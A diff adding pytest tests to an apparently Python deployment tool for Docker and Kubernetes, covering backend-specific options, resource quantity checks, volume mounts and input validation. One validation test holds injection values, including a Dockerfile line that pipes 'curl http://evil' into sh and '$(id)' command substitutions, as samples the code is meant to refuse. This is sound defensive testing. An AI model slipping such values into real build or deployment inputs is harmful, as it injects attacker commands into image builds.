@@ -5,6 +5,7 @@ Docker-engine and Kubernetes tests run these same functions end to end."""
 from __future__ import annotations
 
 import json
+import re
 
 import pytest
 
@@ -309,7 +310,7 @@ def on_kubernetes() -> Deployment:
 
 
 KUBERNETES_ONLY = ("namespace", "autoscaling", "lag_threshold", "min_replicas", "push",
-                   "service_monitor", "cpu_request", "memory_limit")
+                   "service_monitor", "cpu_request", "memory_request")
 
 
 def test_get_of_a_docker_deployment_shows_no_kubernetes_keys():
@@ -369,3 +370,136 @@ def test_the_last_line_of_create_says_where_the_deployment_answers():
     line = ready_line(consumer)
     assert "consumer group mlflow-preproc-fink" in line
     assert "output topic fink-prep-1-preprocessed" in line and "deployments get" in line
+
+
+# ---- #33 finding 4: every key is applied by the chosen backend, or refused -----------------
+
+def test_kubernetes_only_keys_are_refused_on_docker_naming_the_backend_that_takes_them():
+    # They resolved with no message and the container ran without them (#33, finding 4).
+    with pytest.raises(opts.OptionError) as refused:
+        opts.resolve({"memory_limit": "256Mi", "cpu_limit": "0.5", "namespace": "prod",
+                      "autoscaling": "true", "min_replicas": "0"})
+    message = str(refused.value)
+    assert message.startswith("namespace, autoscaling, min_replicas are for Kubernetes only")
+    assert "-C backend=kubernetes" in message
+    assert "memory_limit" not in message and "cpu_limit" not in message  # Docker applies them
+
+
+def test_docker_only_keys_are_refused_on_kubernetes():
+    with pytest.raises(opts.OptionError, match="health_timeout is for Docker only"):
+        opts.resolve({"backend": "kubernetes", "health_timeout": "300"})
+    with pytest.raises(opts.OptionError, match="remove_image is for Docker only"):
+        opts.resolve({"backend": "kubernetes", "remove_image": "true"})
+
+
+@pytest.mark.parametrize("backend", opts.BACKENDS)
+def test_every_option_key_is_taken_by_a_backend_or_refused_there(backend):
+    for key, option in opts.OPTIONS.items():
+        given = {"backend": backend, key: option.example if key != "backend" else backend}
+        if backend in option.backends:
+            assert key in opts.resolve(given), key
+        else:
+            with pytest.raises(opts.OptionError, match=f"^{key} is for "):
+                opts.resolve(given)
+
+
+def test_docker_applies_memory_and_cpu_limits():
+    client = FakeDockerClient()
+    Containers(client).run(spec_of(plan(memory_limit="256Mi", cpu_limit="500m")), "host")
+    assert (client.runs[0]["mem_limit"], client.runs[0]["nano_cpus"]) == (256 * 2**20,
+                                                                           500_000_000)
+
+
+@pytest.mark.parametrize("key, value, message", [
+    ("memory_limit", "256MB", "is not a Kubernetes quantity"),
+    ("memory_limit", "1Mi", "below 6Mi"), ("memory_limit", "0", "above 0"),
+    ("cpu_limit", "half", "is not a Kubernetes quantity"), ("cpu_limit", "5m", "at least 10m"),
+    ("cpu_request", "-1", "is not a Kubernetes quantity"),
+])
+def test_resource_quantities_are_checked_before_anything_is_built(key, value, message):
+    backend = "kubernetes" if key.endswith("request") else "docker"
+    with pytest.raises(opts.OptionError, match=f"{key}={value!r} .*{message}"):
+        opts.resolve({"backend": backend, key: value})
+
+
+@pytest.mark.parametrize("value, expected", [("1Gi", 2**30), ("1.5Gi", 3 * 2**29),
+                                             ("512M", 512_000_000), ("1e9", 10**9),
+                                             ("268435456", 268435456)])
+def test_memory_quantities_as_kubernetes_reads_them(value, expected):
+    from mlflow_preproc.deploy.resources import memory_bytes
+
+    assert memory_bytes(value) == expected
+
+
+def test_an_update_reads_back_every_key_it_was_created_with():
+    # A Kubernetes update starts from the annotation; it left network_mode out, so an update
+    # built the image on another network than the create did (#33, finding 4).
+    from mlflow_preproc.deploy.docker.containers import options_of
+    from mlflow_preproc.deploy.kubernetes.api import summary
+    from mlflow_preproc.deploy.kubernetes.manifests import render
+
+    given = {**SECRETS, "network_mode": "bridge", "no_cache": "true",
+             "docker_host": "unix:///run/docker.sock", "label.team": "alerts"}
+    docker = plan(**given, memory_limit="1Gi")
+    spec = spec_of(docker)
+    assert opts.restore_secrets(options_of(FakeContainer(spec)), spec.env) == {
+        k: v for k, v in docker.options.items() if k != "remove_image"}
+    from mlflow_preproc.deploy.spec import with_stream_defaults
+
+    options = with_stream_defaults("fink", MODEL, opts.resolve(
+        {**STREAM, **given, "backend": "kubernetes", "cpu_request": "1"}))
+    kubernetes = Deployment("fink", MODEL.uri, MODEL, "preprocessing-fink-prep-1:latest",
+                            options)
+    deployment = render(kubernetes, partitions=4)[0]
+    env = {e["name"]: e["value"] for e in
+           deployment["spec"]["template"]["spec"]["containers"][0]["env"] if "value" in e}
+    assert opts.restore_secrets(summary(deployment)["config"], env) == kubernetes.options
+
+
+# ---- #33 finding 5: two mounts of one host file --------------------------------------------
+
+def test_two_mounts_of_one_host_file_are_both_given_to_docker(tmp_path):
+    # docker-py's volumes dict is keyed by the host path: the second mount replaced the first.
+    props = tmp_path / "client.properties"
+    props.write_text("bootstrap.servers=127.0.0.1:9092\n")
+    client = FakeDockerClient()
+    Containers(client).run(spec_of(plan(**{"mount./etc/kafka/client.properties": str(props),
+                                            "mount./opt/ml/client.properties": str(props)})),
+                           "host")
+    assert "volumes" not in client.runs[0]
+    assert sorted((m["Target"], m["Source"], m["Type"], m["ReadOnly"])
+                  for m in client.runs[0]["mounts"]) == [
+        ("/etc/kafka/client.properties", str(props), "bind", True),
+        ("/opt/ml/client.properties", str(props), "bind", True)]
+
+
+# ---- #33: option values with shell or Dockerfile metacharacters ----------------------------
+
+@pytest.mark.parametrize("key, value, message", [
+    # written into the image reference: the build's tag and the manifests' image
+    ("registry", "registry.example.org/fink\nRUN curl http://evil | sh", "registry="),
+    ("registry", "registry.example.org/fink;id", "registry="),
+    # a variable no pod allows (the API server refused it at apply, after build and push)
+    ("env.MY VAR", "1", "env.MY VAR: 'MY VAR' is not a variable name"),
+    ("env.X\nRUN id", "1", "is not a variable name"),
+    ("env.$(id)", "1", "is not a variable name"),
+])
+def test_values_that_would_leave_their_place_are_refused(key, value, message):
+    with pytest.raises(opts.OptionError, match=re.escape(message)):
+        opts.resolve({key: value})
+
+
+def test_values_of_variables_and_labels_are_kept_verbatim():
+    odd = "it's \"$(id)\"; `id` $HOME \\ |\nRUN id"
+    spec = spec_of(plan(**{"env.GREETING": odd, "label.note": odd,
+                           "registry": "registry.example.org:5000/fink"}))
+    assert spec.env["GREETING"] == odd and spec.labels["note"] == odd
+
+
+def test_an_update_drops_the_other_backends_keys_stored_before_they_were_refused():
+    # Deployments made before #33 stored every key's default, Kubernetes' ones too.
+    stored = {**{k: o.default for k, o in opts.OPTIONS.items() if k not in opts._DERIVED},
+              **STREAM, "memory_request": "1Gi", "secret_env.X": "kafka/x"}
+    kept, ignored = opts.applied_by(stored, "docker")
+    assert ignored == ["memory_request", "secret_env.X"]  # set, and never applied: said
+    assert opts.resolve(kept)["input_topic"] == "fink-alert"
